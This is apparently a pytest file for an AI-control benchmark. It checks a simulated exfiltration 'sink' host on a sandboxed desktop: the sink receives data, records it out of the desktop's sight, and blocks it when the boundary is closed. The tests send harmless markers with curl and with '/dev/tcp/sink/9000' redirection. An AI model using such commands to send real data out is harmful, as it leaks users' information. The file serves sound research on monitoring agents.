"""The second host for exfiltration on the embedded desktop: `sink` resolves inside the
sandbox, what reaches it is recorded in a host folder the desktop cannot see, the boundary
switch turns delivery into a recorded, refused attempt, and stopping the desktop ends it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from control_osworld.desktop import DesktopClient, DesktopSpec, get_provider
from control_osworld.osworld.evaluators.metrics import check_sink
from control_osworld.osworld.sink import Sink
from tests.conftest import require
from tests.desktop.conftest import local_ready

pytestmark = pytest.mark.desktop


@pytest.fixture(scope="module")
def sink_desktop():
    ok, why = local_ready()
    require(ok, why)
    provider = get_provider("local")
    handle = provider.start(DesktopSpec(network="sink"))
    yield handle
    provider.stop(handle)


def test_sink_receives_and_the_boundary_blocks(sink_desktop):
    h = sink_desktop
    sink = Sink.for_handle(h)
    assert sink is not None and Path(h.info["sink_records"]).is_dir()
    with DesktopClient.for_handle(h) as c:
        assert c.execute("getent hosts sink", shell=True)["output"].split()[0] == h.info["sink"]
        r = c.execute("curl -s -o /dev/null -w '%{http_code}' --data-binary 'MARK-OPEN' http://sink/up", shell=True)
        assert r["output"] == "200"
        assert c.execute(["bash", "-c", "echo RAW-MARK > /dev/tcp/sink/9000"])["returncode"] == 0
        # the desktop can neither see the records nor the sink's process
        records = h.info["sink_records"]
        assert c.execute(f"ls {records}", shell=True)["returncode"] != 0
        assert "sink_server" not in c.execute("ps aux", shell=True)["output"]
        sink.set_mode("closed")
        r = c.execute("curl -s -o /dev/null -w '%{http_code}' --data-binary 'MARK-CLOSED' http://sink/up", shell=True)
        assert r["output"] == "403"
        sink.set_mode("open")
    import time

    time.sleep(0.5)  # the raw listener records when the connection ends
    recs = sink.records()
    assert check_sink(recs, {"contains": ["MARK-OPEN"]}) == 1
    assert check_sink(recs, {"contains": ["RAW-MARK"], "kind": "tcp"}) == 1
    assert check_sink(recs, {"contains": ["MARK-CLOSED"]}) == 0
    blocked = [r for r in recs if r.get("blocked")]
    assert len(blocked) == 1 and "MARK-CLOSED" not in str(blocked[0])


def test_stop_ends_the_sink():
    ok, why = local_ready()
    require(ok, why)
    provider = get_provider("local")
    h = provider.start(DesktopSpec(network="sink"))
    pid = h.info["sink_pid"]
    assert Path(f"/proc/{pid}").exists()
    provider.stop(h)
    assert not Path(f"/proc/{pid}").exists() or "sink_server" not in Path(f"/proc/{pid}/cmdline").read_text(errors="replace")
    assert not os.path.exists(h.info["sink_records"])


def test_desktop_without_sink_has_no_such_host():
    ok, why = local_ready()
    require(ok, why)
    provider = get_provider("local")
    h = provider.start(DesktopSpec())
    try:
        assert Sink.for_handle(h) is None
        with DesktopClient.for_handle(h) as c:
            assert c.execute("getent hosts sink", shell=True)["returncode"] != 0
    finally:
        provider.stop(h)
